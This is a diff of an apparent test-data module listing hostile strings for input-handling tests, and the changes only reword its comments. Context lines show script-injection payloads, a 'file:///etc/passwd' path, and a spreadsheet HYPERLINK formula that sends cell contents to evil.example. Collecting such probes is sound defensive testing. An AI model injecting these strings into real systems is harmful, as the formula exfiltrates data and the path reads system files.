@@ -1,8 +1,8 @@
-// Strings that break programs, by what they break. A field, a path, a header or a file name may hold any of them.
+// Malicious strings by kind, for fields, paths, headers and file names.
 
 const long = (text: string, bytes: number) => text.repeat(Math.ceil(bytes / text.length))
 
-/** Runs in a browser wherever it is written down as markup; `window.__hit` then tells so. */
+/** Runs in a browser if it is inserted as markup, and then sets `window.__hit`. */
 export const markup = [
   "<script>window.__hit=1</script>",
   "</title><script>window.__hit=1</script>",
@@ -45,7 +45,7 @@ export const addresses = [
   "file:///etc/passwd",
 ] as const
 
-/** What a spreadsheet takes for a formula, whatever the cell was meant to be. */
+/** Texts that a spreadsheet may run as a formula. */
 export const formulas = [
   "=1+1",
   '=HYPERLINK("https://evil.example/?"&A1,"x")',
